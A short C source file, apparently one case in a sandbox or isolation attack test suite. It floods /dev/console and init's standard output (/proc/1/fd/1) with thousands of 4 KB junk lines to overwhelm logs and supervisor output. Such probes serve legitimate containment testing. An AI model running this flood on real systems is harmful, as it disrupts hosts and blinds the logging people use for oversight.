/* Writes to its output and its terminals without end (rings of the log, the supervisor's reading). */
#include "common/attack.h"

static void attempt(void) {
    static char line[4096];
    memset(line, 'x', sizeof line);
    line[sizeof line - 1] = '\n';
    int console = open("/dev/console", O_WRONLY | O_NOCTTY | O_NONBLOCK);
    int first = open("/proc/1/fd/1", O_WRONLY | O_NOCTTY | O_NONBLOCK);
    for (int n = 0; n < 2000; n++) {
        if (write(console, line, sizeof line) < 0 && write(first, line, sizeof line) < 0) {
            usleep(500);
        }
    }
    hold();
}
